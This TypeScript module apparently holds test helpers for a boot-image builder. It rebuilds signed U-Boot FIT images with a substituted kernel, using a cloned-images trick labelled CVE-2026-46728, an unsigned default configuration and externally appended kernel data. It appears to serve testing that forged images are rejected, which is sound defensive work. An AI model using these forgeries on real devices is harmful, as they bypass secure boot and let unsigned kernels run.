// SPDX-License-Identifier: Apache-2.0
//
// Takes a FIT apart and puts it together again with something else in it, as an attacker would who has no key.
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { gunzipSync } from 'node:zlib';
import { type BlobNode, type DeviceTreeBlob, findNode, propertyOf } from '@mbl/builder';

/**
 * The bytes of a device tree (Devicetree Specification 0.4 §5), in mkimage's layout with the room that it leaves at the end. The signature
 * covers the names' block: new names go behind it, old ones keep their place.
 */
export function writeFit({ root, strings, size }: DeviceTreeBlob): Buffer {
  let names = Buffer.from(strings);
  const nameOffset = (name: string): number => {
    const text = Buffer.from(`${name}\0`);
    for (let at = names.indexOf(text); at >= 0; at = names.indexOf(text, at + 1))
      if (at === 0 || names[at - 1] === 0) return at;
    names = Buffer.concat([names, text]);
    return names.length - text.length;
  };
  const chunks: Uint8Array[] = [];
  const words = (...values: number[]): void => {
    const bytes = Buffer.alloc(values.length * 4);
    for (const [i, value] of values.entries()) bytes.writeUInt32BE(value, i * 4);
    chunks.push(bytes);
  };
  const padded = (bytes: Uint8Array): void => {
    chunks.push(bytes, Buffer.alloc(-bytes.length & 3));
  };
  const write = (node: BlobNode): void => {
    words(1);
    padded(Buffer.from(`${node.name}\0`));
    for (const { name, value } of node.properties) {
      words(3, value.length, nameOffset(name));
      padded(value);
    }
    for (const child of node.children) write(child);
    words(2);
  };
  write(root);
  words(9);
  const structure = Buffer.concat(chunks);
  // The header, an empty list of reserved memory, the structure, the names.
  const [reserved, start] = [40, 56];
  const header = Buffer.alloc(start);
  const room = Math.max(size, start + structure.length + names.length);
  const fields = [
    ...[0xd00dfeed, room, start, start + structure.length, reserved, 17, 16, 0],
    ...[names.length, structure.length],
  ];
  for (const [i, field] of fields.entries()) header.writeUInt32BE(field, i * 4);
  return Buffer.concat([header, structure, names], room);
}

/** The tree with the node at `path` replaced by what `edit` makes of it. */
export function edited(root: BlobNode, path: string, edit: (node: BlobNode) => BlobNode): BlobNode {
  const [first, ...rest] = path.split('/').filter((part) => part !== '');
  if (first === undefined) return edit(root);
  assert.ok(
    root.children.some(({ name }) => name === first),
    `the tree has a node ${path}`,
  );
  const children = root.children.map((child) =>
    child.name === first ? edited(child, rest.join('/'), edit) : child,
  );
  return { ...root, children };
}

/** The node with a property set: in its place when it is there, else behind the others; undefined removes it. */
export function withProperty(node: BlobNode, name: string, value: Uint8Array | undefined): BlobNode {
  const there = node.properties.some((property) => property.name === name);
  if (value === undefined)
    return { ...node, properties: node.properties.filter((property) => property.name !== name) };
  const properties = there
    ? node.properties.map((property) => (property.name === name ? { name, value } : property))
    : [...node.properties, { name, value }];
  return { ...node, properties };
}

export function withChildren(node: BlobNode, ...more: readonly BlobNode[]): BlobNode {
  return { ...node, children: [...node.children, ...more] };
}

/** The property of a node that must have it. */
export function valueOf(root: BlobNode, path: string, name: string): Buffer {
  const value = propertyOf(findNode(root, path), name);
  assert.ok(value !== undefined, `${path} has a property ${name}`);
  return Buffer.from(value);
}

/** Texts as a device tree keeps them, each ended by a zero byte. */
export function textList(texts: readonly string[]): Buffer {
  return Buffer.from(texts.map((text) => `${text}\0`).join(''));
}

const kernel = '/images/kernel';
const signature = '/configurations/mbl/signature-1';

/** Another kernel that would boot as well: other bytes in the header of gzip (RFC 1952 §2.3, MTIME), which nobody reads. */
export function anotherKernel(root: BlobNode): Buffer {
  const data = valueOf(root, kernel, 'data');
  const other = Buffer.from(data);
  other.writeUInt32LE(data.readUInt32LE(4) + 1, 4);
  assert.ok(gunzipSync(other).equals(gunzipSync(data)), 'the other kernel unpacks');
  return other;
}

/** The kernel and its hash replaced. */
export function withKernel(root: BlobNode, data: Uint8Array): BlobNode {
  const hash = createHash('sha256').update(data).digest();
  const other = edited(root, kernel, (node) => withProperty(node, 'data', data));
  return edited(other, `${kernel}/hash-1`, (node) => withProperty(node, 'value', hash));
}

/** What the signature says that it covers: paths of nodes. */
export function hashedNodes(root: BlobNode): string[] {
  return valueOf(root, signature, 'hashed-nodes').toString().split('\0').filter(Boolean);
}

export function withHashedNodes(root: BlobNode, paths: readonly string[]): BlobNode {
  return edited(root, signature, (node) => withProperty(node, 'hashed-nodes', textList(paths)));
}

/**
 * CVE-2026-46728: the genuine images move below `/images/clone`, where the list of hashed nodes points, and another kernel takes their
 * place. What is hashed has the same bytes as before, for a U-Boot that believes the list.
 */
export function withClonedImages(root: BlobNode, data: Uint8Array): BlobNode {
  const images = findNode(root, '/images');
  assert.ok(images !== undefined);
  // The data is not part of what the signature covers. A region of hashed bytes ends with the start of a node that is not hashed.
  const empty: BlobNode = { name: 'empty', properties: [], children: [] };
  const genuine = images.children.map((image) => withProperty(image, 'data', undefined));
  const clone: BlobNode = { name: 'clone', properties: [], children: [...genuine, empty] };
  const moved = edited(withKernel(root, data), '/images', (node) => withChildren(node, clone));
  const paths = hashedNodes(root).map((path) => path.replace(/^\/images\//, '/images/clone/'));
  return withHashedNodes(moved, paths);
}

/** A configuration that nobody signed becomes the default one. */
export function withUnsignedDefault(root: BlobNode, data: Uint8Array): BlobNode {
  return edited(withKernel(root, data), '/configurations', (node) => {
    const [signed] = node.children;
    assert.ok(signed !== undefined);
    const other = { ...signed, name: 'other', children: [] };
    return withProperty(withChildren(node, other), 'default', textList(['other']));
  });
}

/** The kernel behind the FIT, where a FIT may keep its data (U-Boot, "Flattened Image Tree", §External data); the hash stays. */
export function withExternalKernel(fit: DeviceTreeBlob, data: Uint8Array): Buffer {
  const external = (position: number): Buffer => {
    const word = (value: number): Buffer => {
      const bytes = Buffer.alloc(4);
      bytes.writeUInt32BE(value);
      return bytes;
    };
    const root = edited(fit.root, kernel, (node) =>
      withProperty(
        withProperty(withProperty(node, 'data', undefined), 'data-size', word(data.length)),
        'data-position',
        word(position),
      ),
    );
    return writeFit({ ...fit, root });
  };
  // The size of the tree does not depend on the number in it.
  const position = (external(0).length + 511) & ~511;
  const tree = external(position);
  return Buffer.concat([tree, Buffer.alloc(position - tree.length), data]);
}
